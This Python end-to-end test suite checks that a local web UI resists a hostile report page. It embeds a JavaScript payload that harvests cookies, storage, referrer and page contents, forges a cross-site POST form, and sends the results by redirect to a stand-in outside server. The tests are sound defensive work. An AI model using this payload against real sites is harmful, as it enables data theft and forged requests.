"""Somebody else's report, and somebody else's server, in the browser that has the local page open.

A report is drawn from a run's slots. Should one ever hold another's script, the browser gives it no
rights: here such a report is served as if webdyno had drawn it.
"""

import json
import socket
import threading
from collections.abc import Iterator, Mapping, Sequence
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from urllib.parse import unquote

import pytest
import uvicorn
from playwright.sync_api import Browser

from e2e.browser import NEEDS_BROWSER
from report import comparisons
from webdyno.config import Catalogue
from webdyno.interfaces.ui import app
from webdyno.interfaces.ui.app import make_app
from webdyno.interfaces.ui.guard import Addresses, ImpatientProtocol
from webdyno.interfaces.ui.runs import Runs
from webdyno.interfaces.ui.starting import Begun, Starter

pytestmark = NEEDS_BROWSER

TOKEN = "the-token-that-was-printed"  # noqa: S105 (of the test's own page)
ATTACK = """<!DOCTYPE html><title>A report</title><script>
const pages = __PAGES__, elsewhere = __ELSEWHERE__, found = [];
const tries = [
  () => document.referrer,
  () => location.href,
  () => document.baseURI,
  () => document.cookie,
  () => JSON.stringify(localStorage),
  () => performance.getEntries().map((it) => it.name).join(" "),
  () => window.opener.location.href,
  () => fetch(pages).then((it) => it.text()),
  () => new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.onload = () => {
      try { done(frame.contentDocument.body.innerText); } catch { done(""); }
    };
    frame.src = pages;
    document.documentElement.append(frame);
    setTimeout(done, 1000);
  }),
  () => new Promise((done) => {
    const other = window.open(pages);
    setTimeout(() => { try { done(other.document.body.innerText); } catch { done(""); } }, 1000);
  }),
  () => {
    const form = document.createElement("form");
    form.method = "post";
    form.action = pages + "begin";
    for (const name of ["stack", "baseline"]) {
      const field = document.createElement("input");
      field.name = name;
      field.value = "nginx";
      form.append(field);
    }
    document.documentElement.append(form);
    form.submit();
    return new Promise((done) => setTimeout(done, 1000));
  },
];
(async () => {
  for (const attempt of tries) {
    try { found.push(await attempt()); } catch { }
  }
  location.href = elsewhere + "?" + encodeURIComponent(JSON.stringify(found));
})();
</script>"""


class Recording(Starter):
    """Begins nothing, and remembers what was requested."""

    begun: list[tuple[str, Mapping[str, object]]]

    def begin(
        self, call: str, arguments: Mapping[str, object], own: Sequence[object] = ()
    ) -> Begun:
        """Remember it."""
        self.begun.append((call, arguments))
        return super().begin(call, {"system": "no-such", "baseline": "no-such"}, own)


@contextmanager
def serving(root: Path, port_of: socket.socket) -> Iterator[Recording]:
    """Serve a folder's runs at a socket."""
    starter = Recording(root)
    starter.begun = []
    made = make_app(Runs(root), Catalogue.load(), starter, TOKEN, port_of.getsockname()[1], str)
    config = uvicorn.Config(made, log_level="warning", http=ImpatientProtocol, ws="none")
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, kwargs={"sockets": [port_of]})
    thread.start()
    try:
        yield starter
    finally:
        server.should_exit = server.force_exit = True
        thread.join()
        starter.end()


@contextmanager
def another_server() -> Iterator[tuple[str, list[str]]]:
    """Another user's server on another port: its address, and all that it was sent."""
    heard: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(f"{self.path}\n{self.headers}")
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.end_headers()
            self.wfile.write(b"<title>another</title>")

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    with HTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}/", heard
        finally:
            server.shutdown()
            thread.join()


@pytest.mark.parametrize("knows_token", [False, True])
def test_a_hostile_report_begins_nothing_and_reads_nothing(
    browser: Browser, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, *, knows_token: bool
) -> None:
    comparisons.decided().stored(tmp_path / "secret-name")
    comparisons.decided().stored(tmp_path / "evil")
    with socket.create_server(("127.0.0.1", 0)) as listening, another_server() as (other, heard):
        origin = f"http://127.0.0.1:{listening.getsockname()[1]}"
        pages = f"{origin}/{TOKEN if knows_token else 'guessed'}/"
        attack = ATTACK.replace("__PAGES__", json.dumps(pages))
        attack = attack.replace("__ELSEWHERE__", json.dumps(other))
        monkeypatch.setattr(app, "page_of", lambda _: attack)
        with serving(tmp_path, listening) as starter:
            page = browser.new_context().new_page()
            page.goto(f"{origin}/{TOKEN}/")
            leads_to_it = f"{origin}{Addresses(TOKEN).page('live', 'evil')}"
            page.evaluate("address => { location.href = address; }", leads_to_it)
            page.wait_for_url(f"{other}**", timeout=60_000)
    stolen = "\n".join(map(unquote, heard))
    assert starter.begun == []
    assert "secret-name" not in stolen
    assert "evil" in stolen  # its own address
    if not knows_token:
        assert TOKEN not in stolen


def test_another_server_gets_no_token(browser: Browser, tmp_path: Path) -> None:
    comparisons.decided().stored(tmp_path / "before")
    with socket.create_server(("127.0.0.1", 0)) as listening, another_server() as (other, heard):
        origin = f"http://127.0.0.1:{listening.getsockname()[1]}"
        with serving(tmp_path, listening) as starter:
            page = browser.new_context().new_page()
            page.goto(f"{origin}/{TOKEN}/")
            page.get_by_role("link", name="Start a comparison").first.click()
            page.evaluate("address => { location.href = address; }", other)
            page.wait_for_url(f"{other}**")
            page.goto(other)
            refused = page.context.request.post(
                f"{origin}/begin", headers={"origin": origin}, form={"stack": "nginx"}
            )
            assert refused.status == 403
    assert len(heard) >= 2
    assert TOKEN not in "".join(heard)
    assert starter.begun == []


def test_what_our_own_page_asks_for_is_begun(browser: Browser, tmp_path: Path) -> None:
    with (
        socket.create_server(("127.0.0.1", 0)) as listening,
        serving(tmp_path, listening) as starter,
    ):
        page = browser.new_context().new_page()
        page.goto(f"http://127.0.0.1:{listening.getsockname()[1]}/{TOKEN}/new")
        page.locator("select[name=stack]").select_option("one of your own …")
        page.get_by_label("System of your own").fill("url:http://127.0.0.1:1")
        page.locator("select[name=baseline]").select_option("one of your own …")
        page.get_by_label("Baseline of your own").fill("url:http://127.0.0.1:2")
        page.get_by_role("button", name="Start", exact=True).click()
        page.wait_for_url("**/live/**")
    assert starter.begun == [
        ("compare", {"system": "url:http://127.0.0.1:1", "baseline": "url:http://127.0.0.1:2"})
    ]
